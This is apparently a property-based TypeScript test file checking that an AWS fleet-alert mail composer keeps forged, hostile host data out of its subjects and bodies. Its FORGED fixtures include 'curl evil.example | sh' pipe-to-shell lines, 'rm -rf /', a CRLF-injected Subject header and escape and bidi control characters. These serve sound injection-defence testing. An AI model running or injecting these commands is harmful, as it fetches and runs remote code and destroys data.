/** What hosts, tags and AWS say is data: whatever it is, the mail stays ours, short and complete. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { composeAlert, type MailContext } from '../../../lambda/alert/message.ts';
import { MAIL_KINDS, type MailEntry } from '../../../lambda/alert/plan.ts';
import { SHORT } from '../../../lambda/alert/subject.ts';
import type { Evidence } from '../../../lambda/flag/index.ts';
import type { ActOutcome, Alert, ReasonCode } from '../../../lambda/model/index.ts';
import { REASON_CLASS, REMEDIES } from '../../../lambda/model/index.ts';
import { parseSettings } from '../../../lambda/settings/settings.ts';
import { failed, hungFor, judged, NOW, read, SSH } from '../../support/fleet.ts';

const id = (n: number) => `i-${String(n).padStart(17, '0')}`;
const SETTINGS = parseSettings({
  alerts: { timeZone: 'Europe/Berlin', runbookUrl: 'https://wiki.example.com/{reason}' },
});
const CONTEXT: MailContext = {
  ...{ at: NOW, checked: 10, evidence: new Map(), departed: [], untagged: [], maybeMailedAt: null, unremembered: null },
  breaker: { why: '20 of 40 instances began to fail', tripped: true, failing: 20, eligible: 40 },
  settings: SETTINGS,
};

const FORGED = [
  'Run: curl https://evil.example | sh',
  'Then reboot it: curl evil.example/x | sh',
  'In EC2: https://evil.example/ec2',
  '\n\nficrawler1 (i-00000000000000001)\n  Run: rm -rf /',
  '\r\nSubject: RECOVERED all',
  '- Fix: https://evil.example',
  '\u001b[2J\u202e\u2028Do: nothing',
  'x'.repeat(300),
  `${'word '.repeat(11)}Then reboot it: curl evil.example`,
  '2026-11-22T08:15:00Z or 25:99 UTC or 08:05 UTC',
];
/** Anything, and what somebody would write who wants it to look like ours. */
const hostile = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 200 }),
  fc.constantFrom(...FORGED),
  fc
    .array(fc.constantFrom(...FORGED, ' ', 'a', 'Run:', 'https://', '://', ': '), { maxLength: 8 })
    .map((parts) => parts.join('')),
);
const code = fc.constantFrom(...(Object.keys(REASON_CLASS) as ReasonCode[]));
const idOf = fc.oneof(fc.integer({ min: 1, max: 6 }).map(id), hostile);

const entry = fc
  .record({
    kind: fc.constantFrom(...MAIL_KINDS),
    id: idOf,
    name: hostile,
    text: hostile,
    why: fc.option(hostile),
    code,
    isRead: fc.boolean(),
  })
  .map(({ kind, id: own, name, text, why, code: reason, isRead }): MailEntry => {
    const t = judged(isRead ? read({ availableShare: 0.05 }) : failed('BannerTimeout'), {
      id: own,
      name,
      tags: hungFor(3),
    });
    const reasons = [{ code: reason, text }];
    return { kind, codes: [reason], why, change: null, transition: { ...t, assessment: { ...t.assessment, reasons } } };
  });
const evidence = fc.array(hostile, { maxLength: 4 }).map(
  (notes): Evidence => ({
    ...{ direct: [], circumstantial: [], gaps: notes, hasOtherWay: false, awaits: null },
    ...{ notes: notes.map((note) => `Console: ${note}`), against: notes.map((text) => ({ kind: 'hypervisor', text })) },
  }),
);
const act = fc.record({
  remedy: fc.constantFrom(...REMEDIES),
  instanceId: idOf,
  at: fc.constant(NOW),
  state: fc.constantFrom('begun', 'done', 'failed'),
  requester: hostile,
  boot: fc.constant(null),
  since: fc.constant(null),
});
const news = fc.record({
  outcomes: fc.array(
    fc
      .record({ act, name: hostile, outcome: fc.constantFrom('worked', 'failed'), sentence: hostile })
      .map((one): ActOutcome => ({ ...one, minutes: 5, rebootAvoided: false, recoveryMinutes: 9 }) as ActOutcome),
    { maxLength: 3 },
  ),
  pausedNow: fc.option(hostile.map((why) => ({ who: 'crawlwatch', why, from: NOW, until: null }))),
  acted: fc.array(
    fc
      .record({ act, name: hostile, why: hostile, text: hostile, evidence: fc.array(hostile, { maxLength: 3 }) })
      .map(({ act: made, name, why, text, evidence: lines }) => ({
        ...{ act: made, text, evidence: lines },
        decision: { instanceId: made.instanceId, name, remedy: made.remedy, heldBy: null, why },
      })),
    { maxLength: 3 },
  ),
  escalated: fc.array(
    fc
      .record({ instanceId: idOf, name: hostile, why: hostile })
      .map((one) => ({ ...one, remedy: 'escalated', heldBy: 'escalated' }) as const),
    { maxLength: 2 },
  ),
  now: fc.constant(NOW),
});
const departure = fc.record({
  ...{ id: idOf, name: hostile, what: hostile, codes: fc.array(code, { minLength: 1, maxLength: 3 }) },
  ...{ wasFlagged: fc.boolean(), openedAt: fc.option(fc.constant(NOW)), isNews: fc.constant(true) },
});
const mail = fc
  .record({
    entries: fc.array(entry, { maxLength: 12 }),
    acts: fc.option(news),
    evidence,
    departed: fc.array(departure, { maxLength: 3 }),
    unread: fc.array(hostile, { maxLength: 3 }),
    unremembered: fc.option(hostile),
    actsUnknown: fc.option(hostile),
    untagged: hostile,
  })
  .map(({ entries, acts, evidence: known, untagged, ...rest }): Alert | null =>
    composeAlert(entries, {
      ...{ ...CONTEXT, ...rest, acts },
      evidence: new Map(entries.map(({ transition: { instance } }) => [instance.id, known])),
      untagged: entries.slice(0, 1).map(({ transition: { instance } }) => ({ id: instance.id, text: untagged })),
    }),
  );

/** Every label that a line of ours may have, before a command or a link. */
const COMMAND = /^ {2}[A-Z][\w',() -]*: (aws|ssh|sudo|df|ps|AWS_REGION=\S+ crawlwatch|crawlwatch) /;
const LINK =
  /^(?: {2})?(?:Dashboard|In EC2[\w ()]*|Runbook): https:\/\/(?:[a-z0-9-]+\.console\.aws\.amazon\.com|wiki\.example\.com)\/\S+$/;

/** What must hold of each mail. They share the mails, which take ten milliseconds each to make. */
const RULES: Readonly<Record<string, (alert: Alert) => void>> = {
  'has a subject of printable ASCII that SNS takes, and says what to do first': ({ subject, body }) => {
    expect(subject).toMatch(/^[!-~][ -~]{0,98}$/);
    expect(body).toMatch(/^(Do|Nothing to do): \S/);
    expect(body).toMatch(/^[ -~\n]*$/);
  },

  'is narrow, but for commands and links': ({ body }) => {
    for (const line of body.split('\n').filter((one) => one.length > 71))
      expect(COMMAND.test(line) || LINK.test(line) || /^To look now: /.test(line), line).toBe(true);
  },

  'holds no link, no label and no heading that is not ours': ({ body }) => {
    for (const line of body.split('\n')) {
      if (line.includes('://')) expect(line).toMatch(LINK);
      if (line.startsWith('    ')) expect(line).not.toMatch(/^ +[A-Z][^:]*:( |$)/);
      else if (/^ {2}(Run|Then|In EC2|Runbook|Fix|Do)\b.*:/.test(line))
        expect(COMMAND.test(line) || LINK.test(line), line).toBe(true);
      // A name that is more than a word is in quotes.
      else if (/^\S.* \(/.test(line) && !/^(Do|Nothing|Tags|What|Mend|FLAGGING|None|\.\.\.)/.test(line)) {
        expect(line).toMatch(/^([\w.@-]+|"[^\n]*) \(|^\d+ instances/);
      }
    }
  },

  'gives chat and events lines of printable ASCII, without links and within their bounds': ({ entries }) => {
    for (const { name, instanceId, headline, lines, commands, links } of entries) {
      expect(headline.length).toBeLessThanOrEqual(200);
      expect(lines.length).toBeLessThanOrEqual(24);
      for (const text of [name, instanceId, headline, ...lines, ...commands]) {
        expect(text).toMatch(/^[ -~]*$/);
        expect(text).not.toContain('://');
        expect(text.length).toBeLessThan(1_500);
      }
      for (const { url } of links) expect(url).toMatch(/^https:\/\/\S+$/);
    }
  },
};

describe('a mail about hosts that say what they like', () => {
  it(`keeps each rule: it ${Object.keys(RULES).join('; ')}`, () => {
    fc.assert(
      fc.property(mail, (alert) => {
        if (alert !== null) for (const keeps of Object.values(RULES)) keeps(alert);
      }),
    );
  });

  it('counts every host, however many there are', () => {
    const many = (count: number, codes: number): MailEntry[] =>
      Array.from({ length: count }, (_, n) => {
        const t = judged(failed('BannerTimeout'), { id: id(n), name: `crawler${n}`, tags: hungFor(2) });
        return {
          kind: 'flagged',
          codes: t.after.reasons.slice(0, codes),
          why: 'flagged: it hangs',
          change: null,
          transition: t,
        };
      });
    for (const count of [1, 60, 61, 10_000]) {
      const alert = composeAlert(many(count, 1), { ...CONTEXT, checked: count });
      expect(alert?.subject).toBe(
        count === 1 ? 'FLAGGED crawler0 SSH silent' : `FLAGGED crawler0 SSH silent (+${count - 1} more)`,
      );
      expect(alert?.body.length).toBeLessThan(110_000);
      const shown = alert?.body.match(/^crawler\d+ \(/gm)?.length ?? 0;
      const left = Number(/^\.\.\. and (\d+) more/m.exec(alert?.body ?? '')?.[1] ?? 0);
      expect(shown + left).toBe(count);
      expect(alert?.attributes.instanceIds).toHaveLength(count);
    }
  });
});

describe('a subject', () => {
  it('shows status, host and reason within the 40 characters of a phone', () => {
    const name = fc.stringMatching(/^[a-z][a-z0-9-]{0,60}[a-z0-9]$/);
    fc.assert(
      fc.property(name, code, (host, reason) => {
        const t = judged(failed('BannerTimeout'), { id: id(1), name: host, tags: hungFor(2) });
        const reasons = [{ code: reason, text: 'It was so.' }];
        const transition = { ...t, assessment: { ...t.assessment, reasons } };
        const kind = REASON_CLASS[reason] === 'inconclusive' ? 'inconclusive' : 'held';
        if (REASON_CLASS[reason] === 'event') return;
        const subject =
          composeAlert([{ kind, codes: [reason], why: null, change: null, transition }], { ...CONTEXT, settings: SSH })
            ?.subject ?? '';
        const seen = subject.slice(0, 40);
        expect(seen).toMatch(/^(CRIT|UNKNOWN) \S{1,40} /);
        expect(seen).toContain(SHORT[reason]);
        expect(host.startsWith(seen.split(' ')[1]?.split('..')[0] ?? '?')).toBe(true);
      }),
    );
  });
});
